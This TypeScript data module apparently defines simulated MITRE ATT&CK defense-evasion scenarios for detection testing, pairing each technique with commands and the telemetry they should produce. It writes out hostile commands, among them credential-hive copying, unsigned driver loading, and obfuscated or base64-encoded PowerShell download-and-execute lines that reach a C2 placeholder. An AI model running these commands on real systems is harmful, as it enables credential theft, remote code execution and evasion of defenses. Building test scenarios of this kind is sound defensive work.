import { NET35, t, v } from "../dsl";
import {
  apiHashingVariants,
  embeddedVariants,
  junkCodeVariants,
  lnkIconVariants,
  packingVariants,
  paddingVariants,
  polymorphicVariants,
  stegoVariants,
  strippedVariants,
  toolIndicatorVariants,
} from "./defense-evasion-obfuscation";

/** Defense evasion: direct volume access, rootkits and obfuscated payloads, as in Atomic tests and incidents. */
export const defenseEvasion = [
  t(
    "T1006",
    "Direct volume access",
    "Raw volume reads to copy locked files (ntds.dit, SAM) bypassing file ACLs.",
    [
      v(
        "invoke-ninjacopy",
        [
          {
            ps: "Invoke-NinjaCopy -Path C:\\Windows\\System32\\config\\SAM -LocalDestination C:\\Windows\\Temp\\sam.hive",
            files: ["C:\\Windows\\Temp\\sam.hive"],
            // Opens \\.\C: and parses NTFS itself: Sysmon 9 from powershell.exe.
            then: [{ id: "raw", kind: "disk.rawread", device: "\\Device\\HarddiskVolume3" }],
          },
        ],
        { shell: "ps", elevated: true },
      ),
      v(
        "rawcopy",
        [
          {
            cmd: "{{tools}}\\RawCopy64.exe /FileNamePath:C:\\Windows\\System32\\config\\SYSTEM /OutputPath:{{tools}}",
            files: ["{{tools}}\\SYSTEM"],
            then: [{ id: "raw", kind: "disk.rawread", device: "\\Device\\HarddiskVolume3" }],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1014", "Rootkit", "A kernel driver installed as a service and loaded.", [
    v(
      "driver-service",
      [
        {
          cmd: 'sc create {{name}} type= kernel binPath= "C:\\Windows\\System32\\drivers\\{{rand}}.sys"',
          then: [
            {
              id: "s",
              kind: "service.install",
              proc: "@services",
              name: "{{name}}",
              imagePath: "C:\\Windows\\System32\\drivers\\{{rand}}.sys",
              serviceType: "kernel mode driver",
            },
          ],
        },
        {
          cmd: "sc start {{name}}",
          then: [
            {
              id: "d",
              kind: "driver.load",
              image: "C:\\Windows\\System32\\drivers\\{{rand}}.sys",
              signed: false,
              signature: "",
            },
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1027",
    "Obfuscated files or information",
    "Encoded and obfuscated command lines: powershell -enc, certutil -decode.",
    [
      v("powershell-enc", [
        "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAnACkA",
      ]),
      v("certutil-decode", [
        {
          cmd: "certutil -decode {{tmp}}\\{{rand}}.txt {{tmp}}\\{{rand}}.exe",
          files: ["{{tmp}}\\{{rand}}.exe"],
        },
      ]),
    ],
  ),
  t("T1027.001", "Binary padding", "A payload inflated past AV size limits with fsutil or copy /b.", [
    ...paddingVariants,
    v("fsutil-pad", [
      "fsutil file createnew {{tmp}}\\pad.bin 104857600",
      {
        cmd: "cmd.exe /c copy /b {{tmp}}\\{{rand}}.exe + {{tmp}}\\pad.bin {{appdata}}\\{{name}}.exe",
        files: ["{{appdata}}\\{{name}}.exe"],
      },
    ]),
  ]),
  t("T1027.002", "Software packing", "A UPX-packed or PyInstaller-bundled payload written and run.", [
    ...packingVariants,
    v("upx", [
      "{{tools}}\\upx.exe -9 {{tools}}\\{{rand}}.exe -o {{tools}}\\{{name}}.exe",
      "{{tools}}\\{{name}}.exe",
    ]),
  ]),
  t(
    "T1027.003",
    "Steganography",
    "A script hidden in a shortcut's trailing data or in image pixels, carved out and run.",
    stegoVariants,
  ),
  t(
    "T1027.004",
    "Compile after delivery",
    "Source compiled on the host with csc.exe (often by PowerShell Add-Type).",
    [
      v("csc", [
        {
          cmd: `${NET35}\\csc.exe /target:exe /out:{{tmp}}\\{{rand}}.exe {{tmp}}\\{{rand}}.cs`,
          files: ["{{tmp}}\\{{rand}}.exe"],
        },
      ]),
      v(
        "add-type",
        [
          { ps: "Add-Type -TypeDefinition $code -Language CSharp" },
          {
            cmd: `"${NET35}\\csc.exe" /noconfig /fullpaths @"{{tmp}}\\{{rand}}.cmdline"`,
            parent: "sh",
            as: "csc",
          },
          {
            cmd: `${NET35}\\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:{{tmp}}\\RES{{rand}}.tmp"`,
            parent: "csc",
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t(
    "T1027.005",
    "Indicator removal from tools",
    "A tool rebuilt with strings changed; seen as a renamed binary run.",
    toolIndicatorVariants,
  ),
  t("T1027.006", "HTML smuggling", "An HTML attachment assembles a ZIP/ISO in the browser.", [
    v(
      "html-blob",
      [
        {
          by: "@msedge",
          files: ["{{downloads}}\\{{Invoice|Document|Scan}}_{{n}}.zip"],
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t(
    "T1027.007",
    "Dynamic API resolution",
    "Shellcode loader resolving APIs by hash; visible as its process and network.",
    [...apiHashingVariants, v("loader", [{ cmd: "{{tools}}\\{{name}}.exe", net: [["{{c2}}", 443]] }])],
  ),
  t("T1027.008", "Stripped payloads", "A stripped binary dropped and started.", [
    ...strippedVariants,
    v("stripped", [{ cmd: "{{tmp}}\\{{rand}}.exe", net: [["{{c2}}", 443]] }]),
  ]),
  t("T1027.009", "Embedded payloads", "A dropper writing an embedded PE and running it.", [
    ...embeddedVariants,
    v("dropper", [
      { cmd: "{{downloads}}\\{{name}}_setup.exe", as: "d", files: ["{{tmp}}\\{{rand}}.exe"] },
      { cmd: "{{tmp}}\\{{rand}}.exe", parent: "d" },
    ]),
  ]),
  t(
    "T1027.010",
    "Command obfuscation",
    "Caret/quote-split cmd, string-concatenated PowerShell, and env-var substring tricks.",
    [
      v("cmd-carets", [
        {
          cmd: "cmd.exe /c p^o^w^e^r^s^h^e^l^l -nop -c \"i`e`x (n`ew-obj`ect N`et.WebC`lient).Down`loadString('http://{{c2}}/a')\"",
          as: "c",
        },
        // cmd strips the carets before it starts PowerShell; the backticks are PowerShell's to remove.
        {
          cmd: "powershell  -nop -c \"i`e`x (n`ew-obj`ect N`et.WebC`lient).Down`loadString('http://{{c2}}/a')\"",
          parent: "c",
          net: [["{{c2}}", 80]],
        },
      ]),
      v("ps-concat", [
        "powershell.exe -nop -c \"&('I'+'EX') (&('New-'+'Object') ('Net.'+'WebClient')).('Download'+'String').Invoke('http://{{c2}}/s')\"",
      ]),
      // %COMSPEC% is C:\\Windows\\system32\\cmd.exe: the three substrings spell "cmd".
      v("env-substring", [
        { cmd: "cmd.exe /c %COMSPEC:~-7,1%%COMSPEC:~-6,1%%COMSPEC:~-5,1% /c whoami", as: "c" },
        { cmd: "cmd  /c whoami", parent: "c", as: "inner" },
        { cmd: "whoami", parent: "inner" },
      ]),
    ],
  ),
  t("T1027.011", "Fileless storage", "A payload stored in the registry and loaded by PowerShell.", [
    v(
      "registry-blob",
      [
        {
          ps: "New-ItemProperty -Path HKCU:\\Software\\Classes\\{{rand}} -Name d -Value $b64 -PropertyType String",
          reg: [
            ["HKCU\\Software\\Classes\\{{rand}}", "d", "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA"],
          ],
        },
        {
          ps: "IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((Get-ItemProperty HKCU:\\Software\\Classes\\{{rand}}).d)))",
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1027.012", "LNK icon smuggling", "A shortcut whose icon location fetches a remote file.", [
    v(
      "lnk-icon",
      [
        {
          cmd: 'C:\\Windows\\System32\\cmd.exe /c powershell -w hidden -c "iwr http://{{c2}}/i.ico -OutFile $env:TEMP\\i.exe; & $env:TEMP\\i.exe"',
          parent: "@explorer",
          as: "c",
        },
        {
          cmd: 'powershell  -w hidden -c "iwr http://{{c2}}/i.ico -OutFile $env:TEMP\\i.exe; & $env:TEMP\\i.exe"',
          parent: "c",
          as: "ps",
          net: [["{{c2}}", 80]],
          files: ["{{tmp}}\\i.exe"],
        },
        { cmd: "{{tmp}}\\i.exe", parent: "ps" },
      ],
      { shell: "none" },
    ),
    ...lnkIconVariants,
  ]),
  t("T1027.013", "Encrypted/encoded file", "An encoded blob decoded with certutil before execution.", [
    v("certutil-decodehex", [
      {
        cmd: "certutil -decodehex {{tmp}}\\{{rand}}.hex {{tmp}}\\{{rand}}.dll",
        files: ["{{tmp}}\\{{rand}}.dll"],
      },
    ]),
    v(
      "ps-frombase64",
      [
        {
          ps: '[IO.File]::WriteAllBytes("$env:TEMP\\{{rand}}.exe", [Convert]::FromBase64String((Get-Content $env:TEMP\\{{rand}}.b64)))',
          files: ["{{tmp}}\\{{rand}}.exe"],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1027.014", "Polymorphic code", "A self-modifying payload; seen as a new hash each run.", [
    ...polymorphicVariants,
    v("run", ["{{tmp}}\\{{rand}}.exe"]),
  ]),
  t("T1027.015", "Compression", "A payload shipped in a password-protected archive and extracted.", [
    v("7z", [
      {
        cmd: "{{tools}}\\7za.exe x -pinfected {{downloads}}\\{{rand}}.zip -o{{tmp}}",
        files: ["{{tmp}}\\{{rand}}.exe"],
      },
    ]),
    v(
      "expand-archive",
      [
        {
          ps: "Expand-Archive -Path $env:USERPROFILE\\Downloads\\{{rand}}.zip -DestinationPath $env:TEMP\\{{rand}}",
          files: ["{{tmp}}\\{{rand}}\\{{name}}.exe"],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1027.016", "Junk code insertion", "A script padded with junk statements; seen in script block logs.", [
    ...junkCodeVariants,
    v(
      "junk-ps",
      [
        {
          ps: "$a1=1;$a2=2;$a3=$a1+$a2;for($i=0;$i -lt 5;$i++){$null=$i*3};$q='ht'+'tp://{{c2}}/p';IEX (New-Object Net.WebClient).DownloadString($q)",
          net: [["{{c2}}", 80]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1027.017", "SVG smuggling", "An SVG attachment with script drops a payload via the browser.", [
    v(
      "svg",
      [
        {
          by: "@msedge",
          files: ["{{downloads}}\\{{rand}}.svg", "{{downloads}}\\{{rand}}.zip"],
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ]),
];
